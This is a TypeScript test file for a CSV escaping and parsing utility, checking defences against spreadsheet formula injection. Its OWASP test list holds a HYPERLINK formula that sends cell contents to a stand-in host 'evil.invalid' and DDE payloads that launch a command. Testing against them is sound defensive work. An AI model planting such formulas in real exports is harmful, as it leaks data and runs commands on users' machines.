import { describe, expect, it } from 'vitest'
import { csvEscapeCell, csvHeaderWithUnit, csvLine, csvUnescapeCell, parseCsvRecords, toCsvDocument } from '../../../shared/utils/csv'

// Formula characters after the OWASP "CSV Injection" guidance: = + - @ tab and carriage return start a formula in a
// spreadsheet when a text cell begins with them.
describe('csvEscapeCell', () => {
  it('neutralises text that starts with = + - @ tab or CR with a leading apostrophe', () => {
    expect(csvEscapeCell('=SUM(A1:A9)')).toBe("'=SUM(A1:A9)")
    expect(csvEscapeCell('+1')).toBe("'+1")
    expect(csvEscapeCell('-136.9')).toBe("'-136.9")
    expect(csvEscapeCell('-2+3')).toBe("'-2+3")
    expect(csvEscapeCell('@cmd')).toBe("'@cmd")
    expect(csvEscapeCell('\tx')).toBe("'\tx")
    expect(csvEscapeCell('\rx')).toBe(`"'\rx"`)
    expect(csvEscapeCell('plain')).toBe('plain')
    expect(csvEscapeCell(null)).toBe('')
  })

  it('writes numbers as numbers: full precision, ASCII minus, never an apostrophe', () => {
    expect(csvEscapeCell(-136.9)).toBe('-136.9')
    expect(csvEscapeCell(-3)).toBe('-3')
    expect(csvEscapeCell(2.5)).toBe('2.5')
    expect(csvEscapeCell(0.1 + 0.2)).toBe('0.30000000000000004')
    expect(csvEscapeCell(-1.2345678901234567e-14)).toBe('-1.2345678901234567e-14')
    expect(csvEscapeCell(Number.NaN)).toBe('')
    expect(csvEscapeCell(-Infinity)).toBe('')
    expect(csvEscapeCell(-136.9).charCodeAt(0)).toBe(0x2d)
  })

  it('a negative number comes back as the same number; formula-looking text comes back as the same text', () => {
    const numbers = [-136.9, -0.4, -1e-15, -149.5, 7, -1.2345678901234567e-14]
    const text = ['=1+1', '+49 30', '-x', '@SUM(A1)', '\tlead', '\rlead']
    const doc = toCsvDocument(['n', 't'], numbers.map((n, i) => [n, text[i]]))
    const rows = parseCsvRecords(doc).slice(1)
    // a spreadsheet or a CSV reader sees a plain decimal: Number() of the raw cell gives the value back exactly
    expect(rows.map((r) => Number(r[0]))).toEqual(numbers)
    expect(rows.map((r) => r[0]!.startsWith("'"))).toEqual(numbers.map(() => false))
    // every text cell starts with the apostrophe that stops a spreadsheet from evaluating it
    expect(rows.map((r) => r[1]![0])).toEqual(text.map(() => "'"))
    expect(rows.map((r) => csvUnescapeCell(r[1]!))).toEqual(text)
  })

  it('quotes cells holding commas, quotes or line breaks', () => {
    expect(csvEscapeCell('a,b')).toBe('"a,b"')
    expect(csvEscapeCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvEscapeCell('=1,2')).toBe('"\'=1,2"')
  })

  it('every value survives escape, parse and un-escape, apostrophes included', () => {
    const values = ['=1+1', "'=1", "'quoted", "it's", '-', '@', 'a\r\nb', ' padded ', '"', '+']
    const doc = toCsvDocument(['v'], values.map((v) => [v]))
    const back = parseCsvRecords(doc).slice(1).map((r) => csvUnescapeCell(r[0]!))
    expect(back).toEqual(values)
  })
})

// The examples of the OWASP "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection): each payload must
// reach the file as text a spreadsheet will not evaluate: a leading apostrophe, the cell in double quotes whenever it
// holds a quote or separator, and every quote doubled. The two escaped forms are the page's own worked examples.
describe('csvEscapeCell against the OWASP CSV injection examples', () => {
  it('escapes the page\'s two worked examples exactly as the page does', () => {
    expect(csvEscapeCell('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`)
    expect(csvEscapeCell(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`)
  })

  it('neutralises the page\'s attack payloads and each character it lists (= + - @ tab CR)', () => {
    const payloads = [
      '=HYPERLINK("http://evil.invalid?leak="&A1&A2,"Error: please click for further information")',
      "=cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '=1+1', '+1', '-1', '@SUM(1)', '\t=1+1', '\r=1+1',
    ]
    for (const p of payloads) {
      const [cell] = parseCsvRecords(csvEscapeCell(p) + '\r\n')[0]!
      expect(cell![0], JSON.stringify(p)).toBe("'")
      expect(csvUnescapeCell(cell!)).toBe(p)
    }
  })

  it('leaves numbers alone: -3.2 stays the number -3.2, and a formula character inside text is harmless', () => {
    expect(csvEscapeCell(-3.2)).toBe('-3.2')
    expect(csvLine([-3.2, '-3.2', 'A=B', 'x@y.test'])).toBe("-3.2,'-3.2,A=B,x@y.test")
  })
})

describe('csvHeaderWithUnit', () => {
  it('puts the unit in brackets after the name, and leaves a name without a unit alone', () => {
    expect(csvHeaderWithUnit('p10', 'dBc/Hz')).toBe('p10 [dBc/Hz]')
    expect(csvHeaderWithUnit('offset', 'Hz')).toBe('offset [Hz]')
    expect(csvHeaderWithUnit('n', null)).toBe('n')
  })
})

describe('parseCsvRecords', () => {
  it('reads quoted cells with separators and line breaks, CRLF or LF, and skips blank lines and a BOM', () => {
    expect(parseCsvRecords('\ufeffa,b\r\n"x,1","y\n2"\n\nc,\n')).toEqual([['a', 'b'], ['x,1', 'y\n2'], ['c', '']])
  })

  it('reports an unclosed quote with its record number', () => {
    expect(() => parseCsvRecords('a\n"b\n')).toThrow(/not closed/)
  })
})
